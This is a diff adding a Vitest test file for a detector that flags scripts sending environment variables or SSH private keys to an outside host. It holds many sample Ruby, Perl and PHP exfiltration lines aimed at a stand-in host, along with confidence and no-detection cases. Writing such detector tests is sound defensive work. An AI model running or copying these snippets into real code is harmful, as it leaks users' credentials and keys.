@@ -1,0 +1,75 @@
+import { describe, expect, test } from "vitest";
+import { markText, type TextFormat } from "../../text/marked-text.ts";
+import { scriptedSends } from "./scripted-sends.ts";
+
+const seenIn = (text: string, format: TextFormat = "script") =>
+  scriptedSends(markText(text, format)).map(({ does }) => does);
+const url = "https://c.zzz.io/a";
+const environment = "sends the environment to c.zzz.io";
+
+describe("the environment that is sent off is found in", () => {
+  test.each([
+    ["Ruby", `data = ENV.to_h.to_json\nNet::HTTP.post(URI("${url}"), data)`],
+    ["Ruby, of the whole hash", `u = "${url}"\nHTTParty.post(u, body: ENV.map { |k, v| k })`],
+    ["Ruby, selected", `s = ENV.select { |k, _| k =~ /KEY/ }\nRestClient.post "${url}", s`],
+    ["Ruby, passed on", `d = dump(ENV)\nFaraday.post("${url}", d)`],
+    [
+      "Ruby, a body set before the request",
+      `req = Net::HTTP::Post.new(URI("${url}"))\nd = ENV.to_a\nreq.body = d\nx = 1\nhttp.request(req)`,
+    ],
+    ["Ruby, a socket", `d = ENV.each { |k, v| k }\nh = "${url}"\nTCPSocket.new(h, 80).write(d)`],
+    ["Perl", `my $d = join("\\n", %ENV);\n$ua->post("${url}", Content => $d);`],
+    [
+      "PHP",
+      `$d = json_encode($_ENV);\n$c = curl_init("${url}");\ncurl_setopt($c, CURLOPT_POSTFIELDS, $d);`,
+    ],
+    ["PHP, by a function", `$d = getenv();\n$u = "${url}";\n$client->post($u, $d);`],
+    [
+      "PHP, by a stream",
+      `$u = "${url}";\n$c = stream_context_create(['http' => ['content' => http_build_query($_SERVER)]]);`,
+    ],
+  ])("%s", (_name, text) => {
+    expect(seenIn(text)).toEqual([environment]);
+  });
+});
+
+describe("a file of secrets that is sent off is found in", () => {
+  test.each([
+    ["Ruby", `k = File.read(File.expand_path("~/.ssh/id_rsa"))\nNet::HTTP.post(URI("${url}"), k)`],
+    [
+      "Ruby, the home folder",
+      `k = IO.read("#{Dir.home}/.ssh/id_rsa")\nHTTP.post("${url}", body: k)`,
+    ],
+    ["Perl", `my $k = slurp("$HOME/.ssh/id_rsa");\n$http->post_form("${url}", { k => $k });`],
+    ["PHP", `$k = file_get_contents("{$home}/.ssh/id_rsa");\n$http->put("${url}", $k);`],
+  ])("%s", (_name, text) => {
+    expect(seenIn(text)).toEqual(["sends ~/.ssh/id_rsa to c.zzz.io"]);
+  });
+});
+
+const hits = (text: string) =>
+  scriptedSends(markText(text, "markdown")).map(({ confidence }) => confidence);
+
+test("in a block of a text", () => {
+  const block = `\`\`\`ruby\nHTTP.post("${url}", body: ENV.to_h)\n\`\`\``;
+  expect(hits(block)).toEqual(["medium"]);
+  expect(hits(`# Attacks\n\n${block}`)).toEqual(["low"]);
+  expect(hits(`Never do this:\n\n${block}`)).toEqual([]);
+});
+
+describe("silent:", () => {
+  test.each<[string, string, TextFormat?]>([
+    ["one variable", `k = ENV["A_KEY"]\nNet::HTTP.post(URI("${url}"), k)`],
+    ["what is not sent", `d = ENV.to_h\nputs d\nNet::HTTP.post(URI("${url}"), "hello")`],
+    ["notes", `d = File.read("notes.txt")\nNet::HTTP.post(URI("${url}"), d)`],
+    ["this machine", 'Net::HTTP.post(URI("http://localhost/a"), ENV.to_h)'],
+    ["a comment", `# Net::HTTP.post(URI("${url}"), ENV.to_h)\nNet::HTTP.get(ENV["A"])`],
+    ["a body without a request", `u = "${url}"\nreq.body = ENV.to_h\nputs req`],
+    ["a text without a request", 'puts ENV.to_h, "http"'],
+    ["a text without secrets", `Net::HTTP.get("${url}")`],
+    ["a shell script", `Net::HTTP.post(URI("${url}"), ENV.to_h)`, "shell"],
+    ["prose", `Net::HTTP.post(URI("${url}"), ENV.to_h)`, "markdown"],
+  ])("%s", (_name, text, format) => {
+    expect(seenIn(text, format)).toEqual([]);
+  });
+});
